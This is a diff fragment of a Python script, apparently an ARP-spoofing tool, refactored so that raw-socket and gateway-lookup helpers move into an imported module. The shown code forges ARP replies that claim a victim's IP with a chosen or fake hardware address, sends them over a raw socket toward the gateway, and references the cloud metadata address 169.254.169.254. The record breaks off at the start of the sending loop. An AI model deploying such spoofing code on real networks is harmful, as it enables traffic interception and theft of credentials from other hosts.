@@ -9,27 +9,13 @@ import struct
 import sys
 import time
 
+from wire import gateway_mac, sender, wire
+
 mode, victim, victim_mac, gateway, seconds = sys.argv[1:6]
 METADATA = socket.inet_aton("169.254.169.254")
-hardware = lambda text: bytes.fromhex(text.replace(":", ""))
-own = hardware(open("/sys/class/net/eth0/address").read().strip())
-source = {"own": own, "invented": hardware("02:de:ad:be:ef:01"), "victim": hardware(victim_mac)}[mode]
-wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-wire.bind(("eth0", 0))
+source = sender(mode, victim_mac)
 wire.settimeout(0.005)
-
-
-def gateway_mac():
-    for _ in range(20):
-        for fields in map(str.split, open("/proc/net/arp")):
-            if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
-                return hardware(fields[3])
-        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (gateway, 9))
-        time.sleep(0.1)
-    sys.exit("the gateway has no hardware address")
-
-
-door = gateway_mac()
+door = gateway_mac(gateway)
 claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source + socket.inet_aton(victim) + door + socket.inet_aton(gateway)
 frames, heard, end = 0, b"", time.time() + float(seconds)
 while time.time() < end:
